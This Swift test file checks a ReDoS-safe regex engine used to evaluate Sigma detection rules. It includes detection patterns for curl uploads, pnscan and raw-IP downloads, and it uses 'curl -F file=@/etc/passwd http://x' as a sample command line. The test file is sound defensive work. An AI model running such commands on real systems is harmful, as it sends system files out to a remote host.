import SwiftmonCore
@testable import SwiftmonSigma
import XCTest

/// The `|re` engine: PCRE's meaning on what SigmaHQ's rules use, linear time on
/// hostile patterns, refusals with a reason for what cannot run in linear time.
final class SigmaRegexTests: XCTestCase {
    func re(_ p: String, _ flags: SigmaRegex.Flags = .init()) throws -> SigmaRegex { try SigmaRegex(p, flags: flags) }

    func testRulePatterns() throws {
        XCTAssertTrue(try re("(.){200,}").matches(String(repeating: "a", count: 200)))
        XCTAssertFalse(try re("(.){200,}").matches(String(repeating: "a", count: 199)))
        XCTAssertTrue(try re("(?:\\s-[^-\\s]{0,20}i|\\s--inode\\s)").matches("ls -lai /"))
        XCTAssertFalse(try re("(?:\\s-[^-\\s]{0,20}i|\\s--inode\\s)").matches("ls --all"))
        XCTAssertTrue(try re("-(W|R)\\s?(\\s|\"|')([0-9a-fA-F]{2}\\s?){2,20}(\\s|\"|')").matches("xxd -R 'ab cd ef'"))
        XCTAssertTrue(try re("(^|\\/)\\.[^.\\/]").matches("/home/u/.hidden"))
        XCTAssertFalse(try re("(^|\\/)\\.[^.\\/]").matches("/home/u/../x"))
        XCTAssertTrue(try re("[^/]{100,}$").matches("/tmp/" + String(repeating: "x", count: 100)))
        XCTAssertFalse(try re("[^/]{100,}$").matches("/tmp/" + String(repeating: "x", count: 99)))
        XCTAssertTrue(try re("https?://(?:(?:25[0-5]|(?:2[0-4]|1\\d|[1-9])?\\d)(?:\\.|\\b)){4}").matches("curl http://10.0.0.1/x"))
        XCTAssertFalse(try re("https?://(?:(?:25[0-5]|(?:2[0-4]|1\\d|[1-9])?\\d)(?:\\.|\\b)){4}").matches("curl http://example.com/"))
        XCTAssertTrue(try re("(?i)ABC").matches("xabcx"))
        XCTAssertTrue(try re("a{2}b").matches("aab"))
        XCTAssertTrue(try re("a{,2}b").matches("a{,2}b"), "a brace that is not a count is literal")
        XCTAssertTrue(try re("^$").matches(""))
        XCTAssertTrue(try re("x$").matches("ax\n"), "$ also matches before a final newline")
        XCTAssertTrue(try re("[\\d]+-[a-c\\-]").matches("12--"))
        XCTAssertTrue(try re("a.*?b").matches("a xx b"))
        XCTAssertTrue(try re("\\bcat\\b").matches("x cat y"))
        XCTAssertFalse(try re("\\bcat\\b").matches("concatenate"))
        XCTAssertTrue(try re("é+").matches("caféé"))
    }

    func testRefusedConstructs() {
        for p in ["(a)\\1", "(?=x)", "(?!x)", "(?<=x)", "(?<!x)", "(?>a)", "a++", "(", "a)", "[a", "*a", "a{3,2}",
                  "a{5000}", "\\p{L}", "\\q"] {
            XCTAssertThrowsError(try SigmaRegex(p), p)
        }
    }

    func testCatastrophicPatternsRunInLinearTime() throws {
        // A backtracking engine needs ~2^30 steps for each of these.
        let hostile = ["(a+)+$", "(a|a)*b", "(a*)*b", "(.*a){20}", "^(\\w+\\s?)*$"]
        let input = String(repeating: "a", count: 30) + "!"
        for p in hostile {
            let r = try re(p)
            let start = DispatchTime.now().uptimeNanoseconds
            _ = r.search(input)
            let ms = Double(DispatchTime.now().uptimeNanoseconds - start) / 1e6
            XCTAssertLessThan(ms, 200, "\(p) took \(ms) ms")
        }
        XCTAssertEqual(try re("(a+)+$").search(input), .noMatch)
        XCTAssertEqual(try re("(a+)+!$").search(input), .match)
    }

    func testStepBudgetBoundsTheWorstCase() throws {
        // The largest program on a long value: bounded by the budget, reported, not a stall.
        let r = try re("(.{0,900}){10}x")
        let long = String(repeating: "a", count: 32_768)
        let start = DispatchTime.now().uptimeNanoseconds
        XCTAssertEqual(r.search(long), .budgetExceeded)
        let s = Double(DispatchTime.now().uptimeNanoseconds - start) / 1e9
        XCTAssertLessThan(s, 5, "budget took \(s) s")
    }

    func testHostileRuleFolderGivesDiagnosticsNotStalls() throws {
        let yaml = SigmaFixture.processRule("s:\n    CommandLine|re: '(a+)+$'\ncondition: s", title: "redos")
            + "\n---\n" + SigmaFixture.processRule("s:\n    CommandLine|re: '(a)\\1'\ncondition: s", title: "backref")
        let set = SigmaFixture.ruleSet(yaml)
        XCTAssertEqual(set.rules.map(\.document.title), ["redos"])
        XCTAssertTrue(set.diagnostics.first?.message.contains("back-references") ?? false, "\(set.diagnostics)")
        let evaluator = SigmaEvaluator(set)
        let event = SigmaFixture.event(.processCreate, ["CommandLine": String(repeating: "a", count: 5000) + "!"])
        let start = DispatchTime.now().uptimeNanoseconds
        XCTAssertEqual(evaluator.matches(event), [])
        XCTAssertLessThan(Double(DispatchTime.now().uptimeNanoseconds - start) / 1e6, 1000)
    }

    /// The start filter (texts of 2 to 4 characters every match begins with)
    /// only ever skips values that cannot match.
    func testStartTextsSkipOnlyValuesThatCannotMatch() throws {
        let pnscan = try SigmaRegex(#"-(W|R)\s?(\s|"|')([0-9a-fA-F]{2}\s?){2,20}(\s|"|')"#)
        // -W or -R, then one of \s's six characters or a quote (a fourth character
        // would give 2 × (6 × 8 + 8 × 22) texts, too many to look for).
        let quotes = Set(pnscan.starts?.map { String(decoding: $0, as: UTF8.self) } ?? [])
        XCTAssertEqual(quotes.count, 16)
        for dash in ["-W", "-R"] { for c in ["\t", "\n", "\u{0B}", "\u{0C}", "\r", " ", "\"", "'"] { XCTAssertTrue(quotes.contains(dash + c)) } }
        XCTAssertTrue(pnscan.matches("pnscan -W '41 42 43'"))
        XCTAssertTrue(pnscan.matches("pnscan -R\t\t41 42\t"))
        XCTAssertFalse(pnscan.matches("pnscan -w '41 42 43'"), "case-sensitive")
        XCTAssertFalse(pnscan.matches("pnscan -Wx '41 42 43'"))
        XCTAssertFalse(pnscan.matches("ls -la /var/log"))
        // Four characters: \s, -, one of F T d, \s.
        let curl = try SigmaRegex(#"\s-[FTd]\s"#)
        XCTAssertEqual(curl.starts?.count, 6 * 3 * 6)
        XCTAssertEqual(curl.starts?.first?.count, 4)
        XCTAssertTrue(curl.matches("curl -F file=@/etc/passwd http://x"))
        XCTAssertTrue(curl.matches("curl\t-d\rx"))
        XCTAssertFalse(curl.matches("curl -fsSL https://example.com/install.sh"))
        XCTAssertFalse(curl.matches("curl -D x"), "case-sensitive")
        XCTAssertFalse(curl.matches(" -d"), "needs the space after")
        let folded = try SigmaRegex("ab", flags: SigmaRegex.Flags(caseInsensitive: true))
        XCTAssertEqual(folded.starts?.count, 4)
        XCTAssertTrue(folded.matches("xAB"))
        XCTAssertTrue(folded.matches("éaB"))
        // A one-character match, an any-character start or a non-ASCII start: no filter.
        XCTAssertNil(try SigmaRegex("a?b").starts)
        XCTAssertTrue(try SigmaRegex("a?b").matches("b"))
        XCTAssertNil(try SigmaRegex("(.){2,}").starts)
        XCTAssertNil(try SigmaRegex("éa").starts)
        XCTAssertTrue(try SigmaRegex("éa").matches("xéa"))
        // Assertions are passed over: \bfoo still starts with "fo".
        let word = try SigmaRegex(#"\bfoo"#)
        XCTAssertEqual(word.starts?.count, 1)
        XCTAssertTrue(word.matches("a foo"))
        XCTAssertFalse(word.matches("afoo"))
    }
}
